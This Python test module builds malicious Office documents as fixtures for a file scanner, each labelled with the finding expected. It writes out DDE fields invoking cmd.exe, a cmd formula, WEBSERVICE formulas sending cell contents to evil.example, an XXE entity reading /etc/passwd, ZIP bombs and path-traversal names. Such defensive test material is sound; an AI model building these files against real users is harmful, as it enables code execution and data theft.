"""Office files that would run, fetch, hide or tell something, each with what is said of it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Final

from PIL import Image

from tests.assets.documents import (
    A,
    R,
    Reference,
    V,
    W,
    changed,
    office,
    packed,
    parts_of,
    plain,
)
from tests.assets.documents import Change as _Change

Make = Callable[[], bytes]

_BODY: Final = "Four questions"
_DOCUMENT: Final = "word/document.xml"
_SHEET: Final = "xl/worksheets/sheet1.xml"
_SLIDE: Final = "ppt/slides/slide1.xml"
_MAIN_TYPE: Final = "application/vnd.openxmlformats-officedocument.{}.main+xml"
_MICROSOFT: Final = "http://schemas.microsoft.com/office"


def _run(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def _sign(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def field(*pieces: str) -> str:
    """Write a field whose instruction is cut into several runs, with a result."""
    begun = _sign("begin") + "".join(map(_run, pieces)) + _sign("separate")
    return f"{begun}<w:r><w:t>result</w:t></w:r>{_sign('end')}"


def _word(inside: str) -> bytes:
    """Put runs into the first paragraph of a document."""
    return office("docx", words={_DOCUMENT: (f"<w:r><w:t>{_BODY}</w:t></w:r>", inside)})


def _part(kind: str, root: str, inside: str) -> bytes:
    xml = f"<w:{root} {W} {R}><w:p>{inside}</w:p></w:{root}>"
    return office(
        "docx", parts={f"word/{kind}9.xml": xml}, references=[Reference(kind, f"{kind}9.xml")]
    )


def _in_footnote(inside: str) -> bytes:
    note = f'<w:footnotes {W}><w:footnote w:id="2"><w:p>{inside}</w:p></w:footnote></w:footnotes>'
    return office(
        "docx",
        parts={"word/footnotes.xml": note},
        references=[Reference("footnotes", "footnotes.xml")],
    )


def _in_text_box(inside: str) -> bytes:
    box = (
        f"<w:r><w:pict {V}><v:shape><v:textbox><w:txbxContent><w:p>{inside}</w:p>"
        "</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    )
    return _word(box)


def _simple(instruction: str) -> bytes:
    return _word(f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple>')


def _outside(extension: str, kind: str, target: str, source: str = "") -> bytes:
    return office(extension, references=[Reference(kind, target, source, external=True)])


def _link(target: str) -> Make:
    return lambda: _outside("docx", "hyperlink", target)


def _holds(extension: str, kind: str, name: str, part: str | bytes = "x", type_: str = "") -> Make:
    """Refer to a part from the main one."""
    folder = {"docx": "word", "pptx": "ppt", "xlsx": "xl"}[extension]
    return lambda: office(
        extension,
        parts={f"{folder}/{name}": part},
        references=[Reference(kind, name, type_=type_)],
    )


def _formula(formula: str) -> Make:
    cell = f'<c r="B1"><f>{formula}</f><v>0</v></c></row>'
    return lambda: office("xlsx", words={_SHEET: ("</row>", cell)})


def _name(attributes: str, value: str) -> Make:
    names = f"<definedNames><definedName {attributes}>{value}</definedName></definedNames>"
    return lambda: office("xlsx", words={"xl/workbook.xml": ("<calcPr", f"{names}<calcPr")})


def _action(action: str) -> Make:
    click = f'<a:hlinkClick {R} {A} r:id="" action="{action}"/></p:cNvPr>'
    return lambda: office("pptx", words={_SLIDE: ('name="Title 1"/>', f'name="Title 1">{click}')})


def _declared(extension: str, type_: str) -> Make:
    main = {"docx": _DOCUMENT, "pptx": "ppt/presentation.xml", "xlsx": "xl/workbook.xml"}[extension]
    return lambda: office(extension, types={main: type_})


def _picture(name: str, content: bytes, extension: str = "docx") -> Make:
    return _holds(extension, "image", f"media/{name}", content)


def located_jpeg() -> bytes:
    exif = Image.Exif()
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (22.0, 19.0, 9.5)
    data = io.BytesIO()
    Image.new("RGB", (32, 24), "#eff4f1").save(data, "JPEG", exif=exif)
    return data.getvalue()


def _webp_with_place() -> bytes:
    with Image.open(io.BytesIO(located_jpeg())) as picture:
        data = io.BytesIO()
        picture.save(data, "WEBP", exif=picture.getexif())
    return data.getvalue()


def abort_wmf() -> bytes:
    """Make a WMF whose only order is to call a procedure (CVE-2005-4560)."""
    escape = struct.pack("<IHHH", 6, 0x0626, 9, 2) + b"\x90\x90"
    end = struct.pack("<IH", 3, 0)
    return b"\x01\x00\x09\x00\x00\x03" + bytes(12) + escape + end


def escaping_emf() -> bytes:
    header = struct.pack("<II", 1, 88) + bytes(32) + b" EMF" + bytes(44)
    return header + struct.pack("<II", 106, 12) + bytes(4) + struct.pack("<II", 14, 20) + bytes(12)


def swollen_png() -> bytes:
    """Make a PNG that unpacks to more than its pixels."""
    return png(2, 2, zlib.compress(bytes(14) + b"Chan Tai Man"))


def png(width: int, height: int, pixels: bytes, bits: int = 8) -> bytes:
    """Write the chunks of a PNG in three colours, or in black and white."""
    header = struct.pack(">2I5B", width, height, bits, 2 if bits == 8 else 0, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", pixels), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(content))
        + name
        + content
        + struct.pack(">I", zlib.crc32(name + content))
        for name, content in chunks
    )


def _huge_png() -> bytes:
    return png(20_000, 20_000, zlib.compress(bytes(9)), bits=1)


def _twice() -> bytes:
    data = io.BytesIO(plain("docx"))
    with zipfile.ZipFile(data, "a") as archive:
        archive.writestr("word/Document.xml", "<x/>")
    return data.getvalue()


def _named(name: str) -> Make:
    return lambda: packed({**parts_of(plain("docx")), name: b"x"})


def _with_bytes(before: bytes = b"", after: bytes = b"") -> Make:
    return lambda: before + plain("docx") + after


def _commented() -> bytes:
    data = io.BytesIO(plain("docx"))
    with zipfile.ZipFile(data, "a") as archive:
        archive.comment = b"<script>alert(1)</script>"
    return data.getvalue()


def _flagged_as_encrypted() -> bytes:
    data = bytearray(plain("docx"))
    directory = data.index(b"PK\x01\x02")
    data[directory + 8] |= 1
    return bytes(data)


def _two_descriptions() -> bytes:
    data = bytearray(plain("docx"))
    size = int.from_bytes(data[22:26], "little")
    data[22:26] = (size + 1).to_bytes(4, "little")
    return bytes(data)


def _overlapping() -> bytes:
    """Let two entries of the directory show the same bytes (a better ZIP bomb)."""
    parts = {**parts_of(plain("docx")), "word/a.xml": b"<a/>", "word/b.xml": b"<a/>"}
    data = bytearray(packed(parts))
    entries = [at for at in range(len(data)) if data.startswith(b"PK\x01\x02", at)]
    places = [data[at + 42 : at + 46] for at in entries]
    data[entries[-1] + 42 : entries[-1] + 46] = places[-2]
    local = int.from_bytes(places[-2], "little")
    data[local + 30 + 5 : local + 30 + 6] = b"b"
    data[entries[-2] + 46 + 5 : entries[-2] + 46 + 6] = b"B"
    return bytes(data)


def _bomb() -> bytes:
    return packed({**parts_of(plain("docx")), "word/media/image9.bmp": bytes(70_000_000)})


def _lying_bomb() -> bytes:
    """Declare a small size for a part that unpacks to a large one."""
    data = bytearray(packed({**parts_of(plain("docx")), "word/x.xml": bytes(1_000_000)}))
    directory = data.rindex(b"PK\x01\x02")
    data[directory + 24 : directory + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def _entities(part: str = _DOCUMENT) -> Make:
    xml = f'<!DOCTYPE d [<!ENTITY a "b">]><w:document {W}><w:body><w:p/></w:body></w:document>'
    return lambda: office("docx", parts={part: xml})


def _external_entity() -> bytes:
    xml = (
        f'<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document {W}><w:body><w:p><w:r>'
        "<w:t>&a;</w:t></w:r></w:p></w:body></w:document>"
    )
    return office("docx", parts={_DOCUMENT: xml})


def _in_utf_16() -> bytes:
    xml = parts_of(plain("docx"))[_DOCUMENT].decode()
    ins = xml.replace(_BODY, "x").replace("<w:r>", '<w:ins w:author="CTM"><w:r>', 1)
    words = ins.replace("</w:r>", "</w:r></w:ins>", 1).replace("UTF-8", "UTF-16")
    return office("docx", parts={_DOCUMENT: words.encode("utf-16")})


def _nested() -> bytes:
    deep = "<w:sdt>" * 3_000 + "</w:sdt>" * 3_000
    return _word(deep)


def _chart_with(workbook: bytes) -> bytes:
    chart = '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>'
    return office(
        "docx",
        parts={"word/charts/chart1.xml": chart, "word/embeddings/Sheet1.xlsx": workbook},
        references=[
            Reference("chart", "charts/chart1.xml"),
            Reference("package", "../embeddings/Sheet1.xlsx", "word/charts/chart1.xml"),
        ],
    )


def chart_with(workbook: bytes) -> bytes:
    """Make a document with a chart, behind which stands a workbook."""
    return _chart_with(workbook)


_VBA: Final = f"{_MICROSOFT}/2006/relationships/vbaProject"
_COMMENT: Final = (
    f'<w:comments {W}><w:comment w:id="0" w:author="CTM"><w:p/></w:comment></w:comments>'
)
_SVG: Final = '<svg xmlns="http://www.w3.org/2000/svg" {}>{}</svg>'
_VIDEO: Final = (
    f'<v:webVideoPr xmlns:v="{_MICROSOFT}/word/2012/wordprocessingDrawing" '
    'embeddedHtml="&lt;iframe src=x&gt;"/>'
)

OFFICE_FILES: Final[Mapping[str, tuple[str, Make, str]]] = {
    # fields
    "dde-field": ("a.docx", lambda: _word(field("DDEAUTO c:\\\\cmd.exe")), "active-content"),
    "dde-field-in-pieces": ("a.docx", lambda: _word(field(" D", "DE", "AUTO x")), "active-content"),
    "dde-simple-field": ("a.docx", lambda: _simple("DDE cmd x"), "active-content"),
    "dde-in-header": ("a.docx", lambda: _part("header", "hdr", field("dde x")), "active-content"),
    "dde-in-footer": (
        "a.docx",
        lambda: _part("footer", "ftr", field("ddeauto x")),
        "active-content",
    ),
    "dde-in-footnote": ("a.docx", lambda: _in_footnote(field("DDE x")), "active-content"),
    "dde-in-text-box": ("a.docx", lambda: _in_text_box(field("DDE x")), "active-content"),
    "dde-by-quote": (
        "a.docx",
        lambda: _word(_sign("begin") + field(" QUOTE 68 68 69 ") + _run(" x ") + _sign("end")),
        "outside-reference",
    ),
    "dde-without-end": ("a.docx", lambda: _word(_sign("begin") + _run("DDE x")), "active-content"),
    "macro-button": ("a.docx", lambda: _word(field("MACROBUTTON Run click")), "active-content"),
    "include-picture": (
        "a.docx",
        lambda: _word(field('INCLUDEPICTURE "https://evil.example/p.png" \\d')),
        "outside-reference",
    ),
    "include-text": (
        "a.docx",
        lambda: _simple("INCLUDETEXT &quot;C:\\\\x.docx&quot;"),
        "outside-reference",
    ),
    "link-field": (
        "a.docx",
        lambda: _word(field("LINK Excel.Sheet.12 x.xlsx")),
        "outside-reference",
    ),
    "import-field": ("a.docx", lambda: _word(field("IMPORT x.png")), "outside-reference"),
    "database-field": ("a.docx", lambda: _word(field('DATABASE \\d "x"')), "outside-reference"),
    "referenced-document-field": (
        "a.docx",
        lambda: _word(field('RD "x.docx"')),
        "outside-reference",
    ),
    "unknown-field": ("a.docx", lambda: _word(field("FETCHNEWS x")), "outside-reference"),
    "link-field-to-script": (
        "a.docx",
        lambda: _word(field('HYPERLINK "javascript:alert(1)"')),
        "link-inside",
    ),
    "composed-link-field": (
        "a.docx",
        lambda: _word(_sign("begin") + _run("HYPERLINK ") + field("DOCPROPERTY x") + _sign("end")),
        "link-inside",
    ),
    # references
    "attached-template": (
        "a.docx",
        lambda: _outside("docx", "attachedTemplate", "https://evil.example/t.dotm"),
        "outside-reference",
    ),
    "remote-picture": (
        "a.docx",
        lambda: _outside("docx", "image", "https://evil.example/p.png"),
        "outside-reference",
    ),
    "remote-object": (
        "a.docx",
        lambda: _outside("docx", "oleObject", "mhtml:https://evil.example/x!x"),
        "outside-reference",
    ),
    "remote-frame": (
        "a.docx",
        lambda: _outside("docx", "frame", "\\\\evil\\s"),
        "outside-reference",
    ),
    "remote-sub-document": (
        "a.docx",
        lambda: _outside("docx", "subDocument", "\\\\evil\\s"),
        "outside-reference",
    ),
    "remote-video": (
        "a.pptx",
        lambda: _outside("pptx", "video", "https://www.youtube.com/embed/x", _SLIDE),
        "outside-reference",
    ),
    "mail-merge": (
        "a.docx",
        lambda: office(
            "docx",
            words={
                "word/settings.xml": (
                    "</w:settings>",
                    '<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge></w:settings>',
                )
            },
        ),
        "outside-reference",
    ),
    "external-workbook": (
        "a.xlsx",
        _holds("xlsx", "externalLink", "externalLinks/externalLink1.xml", "<externalLink/>"),
        "outside-reference",
    ),
    "connections": (
        "a.xlsx",
        _holds("xlsx", "connections", "connections.xml", "<connections/>"),
        "outside-reference",
    ),
    "power-query": (
        "a.xlsx",
        _holds("xlsx", "powerPivotData", "model/item.data", "x"),
        "outside-reference",
    ),
    "query-table": (
        "a.xlsx",
        _holds("xlsx", "queryTable", "queryTables/queryTable1.xml", "<queryTable/>"),
        "outside-reference",
    ),
    "link-to-script": ("a.docx", _link("javascript:alert(1)"), "link-inside"),
    "link-to-script-in-disguise": ("a.docx", _link("java&#10;script:alert(1)"), "link-inside"),
    "link-to-file": ("a.docx", _link("file:///C:/Users/ctm/plan.docx"), "link-inside"),
    "link-to-share": ("a.docx", _link("\\\\server\\share\\x.exe"), "link-inside"),
    "link-to-loopback": ("a.docx", _link("http://127.0.0.1/admin"), "link-inside"),
    "link-to-metadata-service": ("a.docx", _link("http://169.254.169.254/"), "link-inside"),
    "link-to-intranet": ("a.docx", _link("https://intranet/"), "link-inside"),
    "link-with-password": ("a.docx", _link("https://ctm:secret@school.example/"), "link-inside"),
    "link-to-data": ("a.docx", _link("data:text/html,x"), "link-inside"),
    "link-to-office-command": (
        "a.docx",
        _link("ms-word:ofe|u|https://evil.example"),
        "link-inside",
    ),
    "mail-with-attachment": ("a.docx", _link("mailto:a@b.example?attach=C:\\x"), "link-inside"),
    "link-to-file-beside": ("a.docx", _link("payload.exe"), "link-inside"),
    "link-in-drawing": (
        "a.docx",
        lambda: _word(f'<w:r><w:pict {V}><v:shape href="file:///C:/x.exe"/></w:pict></w:r>'),
        "link-inside",
    ),
    "drawing-from-elsewhere": (
        "a.docx",
        lambda: _word(
            f'<w:r><w:pict {V}><v:shape><v:imagedata src="https://evil.example/p.png"/></v:shape>'
            "</w:pict></w:r>"
        ),
        "outside-reference",
    ),
    # programs
    "macros": (
        "a.docx",
        _holds("docx", "vbaProject", "vbaProject.bin", type_=_VBA),
        "active-content",
    ),
    "macros-by-another-name": (
        "a.docx",
        _holds("docx", "vbaProject", "media/image7.png", type_=_VBA),
        "active-content",
    ),
    "active-x": ("a.docx", _holds("docx", "control", "activeX/activeX1.xml"), "active-content"),
    "ribbon": (
        "a.xlsx",
        lambda: office(
            "xlsx",
            parts={"customUI/customUI.xml": "<customUI/>"},
            references=[
                Reference(
                    "",
                    "customUI/customUI.xml",
                    "/",
                    type_=f"{_MICROSOFT}/2006/relationships/ui/extensibility",
                )
            ],
        ),
        "active-content",
    ),
    "task-pane": (
        "a.docx",
        lambda: office(
            "docx",
            parts={"word/webextensions/taskpanes.xml": "<taskpanes/>"},
            references=[
                Reference(
                    "",
                    "word/webextensions/taskpanes.xml",
                    "/",
                    type_=f"{_MICROSOFT}/2011/relationships/webextensiontaskpanes",
                )
            ],
        ),
        "active-content",
    ),
    "macro-sheet": (
        "a.xlsx",
        _holds("xlsx", "xlMacrosheet", "macrosheets/sheet1.xml"),
        "active-content",
    ),
    "name-that-runs": ("a.xlsx", _name('name="_xlnm.Auto_Open"', "Sheet1!A1"), "active-content"),
    "name-of-a-macro": ("a.xlsx", _name('name="x" xlm="1"', "Sheet1!A1"), "active-content"),
    "slide-that-runs-a-program": ("a.pptx", _action("ppaction://program"), "active-content"),
    "slide-that-runs-a-macro": ("a.pptx", _action("ppaction://macro?name=x"), "active-content"),
    "film-of-a-page": ("a.docx", lambda: _word(f"<w:r>{_VIDEO}</w:r>"), "active-content"),
    "declared-with-macros": (
        "a.docx",
        _declared("docx", "application/vnd.ms-word.document.macroEnabled.main+xml"),
        "unconverted-file",
    ),
    "workbook-with-macros": (
        "a.xlsx",
        _declared("xlsx", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        "unconverted-file",
    ),
    "template": (
        "a.docx",
        _declared("docx", _MAIN_TYPE.format("wordprocessingml.template")),
        "unconverted-file",
    ),
    "slide-show": (
        "a.pptx",
        _declared("pptx", _MAIN_TYPE.format("presentationml.slideshow")),
        "unconverted-file",
    ),
    "add-in": (
        "a.xlsx",
        _declared("xlsx", "application/vnd.ms-excel.addin.macroEnabled.main+xml"),
        "unconverted-file",
    ),
    "another-main-type": ("a.docx", _declared("docx", "text/html"), "damaged-file"),
    # formulas
    "formula-that-fetches": (
        "a.xlsx",
        _formula("WEBSERVICE(&quot;https://evil.example/&quot;&amp;A1)"),
        "outside-reference",
    ),
    "formula-that-shows": ("a.xlsx", _formula("_xlfn.IMAGE(A1)"), "outside-reference"),
    "formula-of-another-program": ("a.xlsx", _formula("IMPORTXML(A1,A2)"), "outside-reference"),
    "formula-that-calls": (
        "a.xlsx",
        _formula("CALL(&quot;x&quot;,&quot;y&quot;)"),
        "outside-reference",
    ),
    "formula-with-command": ("a.xlsx", _formula("cmd|&apos;/c calc&apos;!A0"), "active-content"),
    "formula-to-another-book": (
        "a.xlsx",
        _formula("&apos;C:\\x\\[marks.xlsx]Sheet1&apos;!A1"),
        "outside-reference",
    ),
    "formula-with-link": (
        "a.xlsx",
        _formula("HYPERLINK(&quot;file:///C:/x.exe&quot;,1)"),
        "link-inside",
    ),
    "formula-that-composes-a-link": (
        "a.xlsx",
        _formula("HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1)"),
        "link-inside",
    ),
    "formula-of-quotation-marks": ("a.xlsx", _formula("&apos;" * 400_001), "active-content"),
    "formula-in-a-name": (
        "a.xlsx",
        _name('name="x"', "WEBSERVICE(&quot;https://evil.example/&quot;)"),
        "outside-reference",
    ),
    # what lies inside
    "object": ("a.docx", _holds("docx", "oleObject", "embeddings/oleObject1.bin"), "embedded-file"),
    "document-inside": (
        "a.docx",
        _holds("docx", "package", "embeddings/a.docx", plain("docx")),
        "embedded-file",
    ),
    "page-to-merge": ("a.docx", _holds("docx", "aFChunk", "chunk.htm", "<html/>"), "embedded-file"),
    "unknown-kind-of-part": ("a.docx", _holds("docx", "wonder", "wonder.bin"), "embedded-file"),
    "program-that-nothing-names": (
        "a.docx",
        lambda: office("docx", parts={"word/payload.exe": "MZ"}),
        "embedded-file",
    ),
    "parts-that-name-each-other": (
        "a.docx",
        lambda: office(
            "docx",
            parts={"word/x.xml": "<x/>", "word/y.xml": "<y/>"},
            references=[
                Reference("theme", "y.xml", "word/x.xml"),
                Reference("theme", "x.xml", "word/y.xml"),
            ],
        ),
        "embedded-file",
    ),
    "pdf-as-picture": ("a.docx", _picture("image1.png", b"%PDF-1.7 x"), "embedded-file"),
    "archive-as-picture": ("a.docx", _picture("image1.png", plain("xlsx")), "embedded-file"),
    "drawing-with-script": (
        "a.docx",
        _picture("image1.svg", _SVG.format("", "<script>alert(1)</script>").encode()),
        "embedded-file",
    ),
    "drawing-with-handler": (
        "a.pptx",
        _picture("image9.svg", _SVG.format('onload="alert(1)"', "").encode(), "pptx"),
        "embedded-file",
    ),
    "drawing-that-fetches": (
        "a.docx",
        _picture(
            "image1.svg",
            _SVG.format("", '<style>path{fill:url("https://evil.example/")}</style>').encode(),
        ),
        "embedded-file",
    ),
    "metafile-that-runs": ("a.docx", _picture("image1.wmf", abort_wmf()), "embedded-file"),
    "metafile-with-escape": ("a.docx", _picture("image1.emf", escaping_emf()), "embedded-file"),
    "photograph-with-place": ("a.docx", _picture("image1.jpeg", located_jpeg()), "location-inside"),
    "webp-with-place": ("a.docx", _picture("image1.webp", _webp_with_place()), "location-inside"),
    "photograph-named-otherwise": (
        "a.docx",
        _picture("image1.bin", located_jpeg()),
        "location-inside",
    ),
    "picture-with-more-than-pixels": (
        "a.docx",
        _picture("image1.png", swollen_png()),
        "embedded-file",
    ),
    "picture-of-400-megapixels": (
        "a.docx",
        _picture("image1.png", _huge_png()),
        "picture-too-large",
    ),
    "picture-cut-short": ("a.docx", _picture("image1.png", swollen_png()[:40]), "broken-picture"),
    "macros-behind-a-chart": (
        "a.docx",
        lambda: _chart_with(
            changed(
                plain("xlsx"),
                _Change(
                    parts={"xl/vbaProject.bin": "x"},
                    references=[Reference("vbaProject", "vbaProject.bin", type_=_VBA)],
                ),
            )
        ),
        "active-content",
    ),
    "chart-behind-a-chart": (
        "a.docx",
        lambda: _chart_with(_chart_with(plain("xlsx"))),
        "embedded-file",
    ),
    # what tells of people
    "comments": ("a.docx", _holds("docx", "comments", "comments.xml", _COMMENT), "comments-inside"),
    "comments-under-another-name": (
        "a.docx",
        _holds("docx", "comments", "remarks/x.xml", _COMMENT),
        "comments-inside",
    ),
    "tracked-insertion": (
        "a.docx",
        lambda: _word('<w:ins w:author="CTM"><w:r><w:t>x</w:t></w:r></w:ins>'),
        "tracked-changes",
    ),
    "tracked-deletion-without-author": (
        "a.docx",
        lambda: _word("<w:del><w:r><w:delText>x</w:delText></w:r></w:del>"),
        "tracked-changes",
    ),
    "tracked-change-in-utf-16": ("a.docx", _in_utf_16, "irregular-file"),
    "tracked-workbook": (
        "a.xlsx",
        _holds("xlsx", "revisionHeaders", "revisions/revisionHeaders.xml", "<headers/>"),
        "tracked-changes",
    ),
    # the archive
    "name-twice": ("a.docx", _twice, "irregular-file"),
    "name-that-climbs": ("a.docx", _named("../../evil.txt"), "irregular-file"),
    "name-of-a-root": ("a.docx", _named("/etc/evil"), "irregular-file"),
    "name-of-a-drive": ("a.docx", _named("C:/evil"), "irregular-file"),
    "name-with-backslash": ("a.docx", _named("word/..\\evil"), "irregular-file"),
    "name-with-control": ("a.docx", _named("word/a\x1b[2Jb"), "irregular-file"),
    "bytes-before": ("a.docx", _with_bytes(before=b"PK\x03\x04" + b"GIF89a" * 9), "irregular-file"),
    "bytes-after": ("a.docx", _with_bytes(after=b"<script>alert(1)</script>"), "irregular-file"),
    "comment-of-the-archive": ("a.docx", _commented, "irregular-file"),
    "flagged-as-encrypted": ("a.docx", _flagged_as_encrypted, "encrypted-file"),
    "described-in-two-ways": ("a.docx", _two_descriptions, "irregular-file"),
    "overlapping-parts": ("a.docx", _overlapping, "irregular-file"),
    "bomb": ("a.docx", _bomb, "unpacks-too-large"),
    "lying-bomb": ("a.docx", _lying_bomb, "irregular-file"),
    "entities": ("a.docx", _entities(), "irregular-file"),
    "entity-of-a-file": ("a.docx", _external_entity, "irregular-file"),
    "nested-without-end": ("a.docx", _nested, "irregular-file"),
    "ten-thousand-parts": (
        "a.docx",
        lambda: packed(parts_of(plain("docx")) | {f"word/{n}.xml": b"" for n in range(10_000)}),
        "irregular-file",
    ),
}
